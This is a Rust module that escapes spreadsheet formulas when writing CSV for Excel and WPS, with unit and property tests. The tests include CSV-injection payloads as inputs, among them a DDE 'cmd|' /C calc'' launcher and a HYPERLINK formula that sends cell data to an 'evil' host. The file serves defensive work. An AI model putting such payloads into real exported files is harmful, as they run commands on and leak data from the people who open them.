//! Tables of texts as people read them, as CSV for Excel and WPS.

use std::io::{self, Write};

use crate::reject::looks_like_formula;
use crate::table::BYTE_ORDER_MARK;

/// Writes rows of texts after a byte-order mark. What a spreadsheet would run as a formula gets a leading
/// apostrophe; a signed number is none, such as a change of +0.5.
///
/// # Errors
/// When `writer` does not take the bytes.
pub fn write_texts<'t>(
    mut writer: impl Write,
    rows: impl IntoIterator<Item = &'t Vec<String>>,
) -> io::Result<()> {
    writer.write_all(BYTE_ORDER_MARK)?;
    let mut csv = csv::Writer::from_writer(writer);
    for row in rows {
        csv.write_record(row.iter().map(|text| harmless(text)))?;
    }
    csv.flush()
}

fn harmless(text: &str) -> String {
    let runs = looks_like_formula(text) && !is_figure(text);
    if runs { format!("'{text}") } else { text.to_owned() }
}

/// Whether the whole text is a figure and words about it, such as `+0.52 (not sig.)` and `-0.3 to +0.5`:
/// nothing is in it that a formula could be made of.
fn is_figure(text: &str) -> bool {
    if let Some((figure, remark)) = remarked(text) {
        let is_of_words = |letter: char| letter.is_alphabetic() || matches!(letter, ' ' | '.');
        return is_number(figure.trim_end()) && remark.chars().all(is_of_words);
    }
    let mut parts = text.split([' ', '–', '→']).filter(|part| !part.is_empty());
    parts.next().is_some_and(is_number)
        && parts.all(|part| is_number(part) || part.chars().all(char::is_alphabetic))
}

/// What stands before a remark in brackets, and the remark.
fn remarked(text: &str) -> Option<(&str, &str)> {
    text.strip_suffix([')', '）'])?.split_once(['(', '（'])
}

/// A number with or without a sign, or a share in percent.
fn is_number(text: &str) -> bool {
    let digits = text.strip_prefix(['+', '-']).unwrap_or(text);
    let digits = digits.strip_suffix('%').unwrap_or(digits);
    let (whole, decimals) = digits.split_once('.').unwrap_or((digits, "0"));
    [whole, decimals]
        .iter()
        .all(|part| !part.is_empty() && part.bytes().all(|digit| digit.is_ascii_digit()))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn signed_numbers_stay_numbers_and_formulas_do_not_run() {
        let row = ["+0.52（不显著）", "-1", "=1+1", "+cmd", "@x", "—", "东河镇"].map(str::to_owned);
        let mut out = Vec::new();
        write_texts(&mut out, [&row.to_vec()]).expect("memory");
        let text = String::from_utf8(out).expect("UTF-8");
        assert_eq!(text, "\u{feff}+0.52（不显著）,-1,'=1+1,'+cmd,'@x,—,东河镇\n");
    }

    #[test]
    fn figures_with_words_are_no_formulas_and_formulas_behind_figures_are() {
        for figure in [
            "+0.52 （不显著）",
            "+0.52 (not sig.)",
            "-0.30 至 +0.50",
            "-0.30 to +0.50",
            "-0.30–0.50",
            "-1.5%",
            "-1 → +2",
        ] {
            assert_eq!(harmless(figure), figure);
        }
        for formula in [
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "-1+HYPERLINK(\"http://evil/?\"&A1,\"x\")",
            "-1+RAND()",
            "-1 RAND()",
            "-1（+RAND()）",
            "+1 cmd|x",
            "+1.",
            "-",
        ] {
            assert_eq!(harmless(formula), format!("'{formula}"));
        }
    }

    proptest! {
        /// Whatever follows a figure: what stays as it is has nothing that works or calls in it.
        #[test]
        fn what_stays_as_it_is_computes_nothing(
            figure in "[+-][0-9]{1,3}(\\.[0-9])?",
            rest in "[-+*/^&|!=@<>:;,\"'(){}\\[\\] a-zA-Z0-9.（）镇\t\r\n]{0,12}",
        ) {
            let text = figure + &rest;
            let written = harmless(&text);
            if written == text {
                prop_assert!(!text.contains(['*', '/', '^', '&', '|', '!', '=', '@', '"', '\'', ':', ',']));
                let mut letters = text.chars();
                letters.next();
                // A sign begins a number of its own, and a bracket follows a number.
                for (before, sign) in text.chars().zip(letters) {
                    prop_assert!(!matches!(sign, '+' | '-') || before == ' ', "{}", text);
                    prop_assert!(sign != '(' || !before.is_alphabetic(), "{}", text);
                }
            } else {
                prop_assert_eq!(written, format!("'{text}"));
            }
        }
    }
}
